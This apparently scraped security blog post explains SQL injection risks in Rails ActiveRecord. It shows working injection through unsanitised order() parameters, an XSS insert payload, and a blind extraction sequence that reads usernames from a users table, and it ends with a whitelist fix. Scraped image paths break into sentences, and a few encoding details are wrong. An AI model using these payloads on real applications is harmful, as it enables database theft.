See a 10-minute overview of the platform.



Rails SQL injection gotchas

In this post we’re gonna look at some places where it is possible to inject arbitrary SQL commands into active record queries in Ruby on Rails.ActiveRecord has pretty good protection against SQL injection, so much so that sometimes I think it lulls us into a false sense of security.

We’re pretty well protected by default for ‘where’ queries. Consider the following code:

@posts = Post.where(:title => params[:title])

This code will take the value of the URL parameter ‘title’ and insert it into a query. So if we make a request like:

GET /posts?title=whatever

We’ll get the following SQL:

SELECT `posts`.* FROM `posts` WHERE `posts`.`title` = 'whatever'

So we know that we can insert text into the SQL query, let’s try a standard SQL injection attack vector:

GET /posts?title=whatever'%20OR1=1


SELECT `posts`.* FROM `posts` WHERE `posts`.`title` = 'whatever' OR 1=1'Rails automatically escapes the single quotes, preventing us from breaking out of context here. What about integral columns? Let’s say we have the following code:

@posts = Post.where(:score => params[:score])

So we make a request like so

GET /posts?score=5

and we get the following SQL:SELECT `posts`.* FROM `posts` WHERE `posts`.`score` = 5

Now there’s no longer any single quotation marks around our URL parameter when it gets incorporated into our query. This should make things easier right?

GET /posts?score=5%20OR1=1


SELECT `posts`.* FROM `posts` WHERE `posts`.`score` = 5

Nope. Only the numeric part of the parameter is included in the query. Anything following the numeric part is discarded.

So incorporating URL parameters into ‘where’ arguments is safe, as long as we use the hash form. (I’m assuming that most developers know better than to use string interpolation using untrusted data!). But other ActiveRecord query methods are not so safe.

Consider the following code@posts = Post.order(params[:order_column])

This seems pretty innocuous. It provides us with an easy way of specifying the ordering of Post records, without having to write any complex logic. So we might make a request like so:

GET /posts?order_column=title

and get the following query:

SELECT `posts`.* FROM `posts` ORDER BY title

Hmmm, this looks interesting. There are no quotes around ‘title’. What about:

GET /posts?order_column=%27%3B--

This is just


URL encoded.


SELECT `posts`.* FROM `posts` ORDER BY ;'--

This causes a database error, but it shows that the query incorporates the order_column URL parameter verbatim. So what can we do withthis? SQL does not allow conditions to be set after the ORDER BY clause so that limits our avenues of attack. Let’s try adding our own data to the posts table.We can use a semicolon (%27) to delimit successive queries, so after the SELECT we can add an INSERT:

GET /posts?order_column=title%27%20INSERT%20INTO%posts(content)%20VALUES%20('%3Cscript%3Ealert(1234)%3C%2Fscript%3E')

This generates the following SQL:

SELECT `posts`.* FROM `posts` ORDER BY title; INSERT INTO posts(content) VALUES ('<script>alert(1234)</script>')

This looks right, but (un)fortunately, we get a DB error. ActiveRecord queries are constrained to only allow one SELECT. Adding a further query or update will cause an error. This means that it’s not possible (as far as I am aware) of inserting arbitrary data into the database using this method. However we can get data out of the database using Blind SQL Injection.

Blind SQL injection refers to SQL injection techniques when the result of the injected query is not directly measurable. In this case, we can’t force the application to show us Post records that it would not otherwise display. What we need is a way of altering the query, so that under some conditions the returned Post records are different.

One solution I’ve played around with is using the ORDER BY FIELD syntax in MySQL. This requires that we know the numeric id of the first post returned. This is usually pretty easy to find out when the application follow REST principles.

Let’s saythe Post index method gives us the following records:

GET /posts.json

I’m using JSON to display the results here, but the technique should also apply to the HTML format, assuming you can get the numeric ids from the markup or otherwise. We can see that the results are ordered by the id column. Let’s try the ORDER BY FIELD technique:

GET /posts.json?order_column=FIELD(id, 1)

This seems counter intuitive at first, we’ve ordered bythe id column in the list , and it’s put the Post with id 2 first. This is because FIELD is a function that returns the position of the value given in the first argument, in the list given as the remaining arguments. It is indexed from 1, and for any value that does not appear in the list, it returns 0. This means the record with id 2 will come first, since the value of FIELD in that case is 0.

If we try the following request:

GET /posts.json?order_column=FIELD(id, 0)

We will get the original ordering back.

Now we need to add a conditional to the request. In MySQL (probably others also) we can use IF as follows

GET /posts.json?order_column=FIELD(id, IF(true, 0, 1)) GET /posts.json?order_column=FIELD(id, IF(false, 0, 1))

These two requests should return different orderings of posts.

To actually retrieve some data, we need to usesubqueries. We’re gonna cheat a little bit here and assume we know that there is a users table with a name column. We’re gonna try and get the name of the first user in the database. We can only asktrue or false questions, so this takes a little bit of time. The procedure we’ll use is to check whether the column value is lexicographically less than some value (i.e. would come before it in alphabetical ordering), and use bisection to reduce the number of checks.

GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'm', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'g', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'd', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'b', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'a', 0,1)) #F # first character is 'a' GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'am', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'ag', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'ad', 0, 1)) #T GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) < 'ae', 0, 1)) #F # second character is 'd' .... a few more requests GET /posts.json?order_column=FIELD(id, IF((SELECT name FROM users LIMIT 1) = 'admin', 0, 1)) #T

You can see in the last request, I changed the less than sign to basic equality as a sort of sanity check. So the first name in the users table is admin, to get further users, we can use OFFSET and get the rest of them.

In conclusion, the SQL injection protection in Rails is not a magic bullet, you still need to think about how attacker controlled data might be incorporated into SQL queries. The solution for the above issue would be to whitelist the possible orderings. This can be achieved using something like the following codeorder_column = 'title' if Post.column_names.include?(params[:order_column]) order_column = params[:order_column] end @posts =Post.order(order_column)

Check out how common SQL Injection is in the real world, and get insight into other vulnerabilitiesdetected by edgescan ona daily basis here: 2014 edgescanvulnerability report.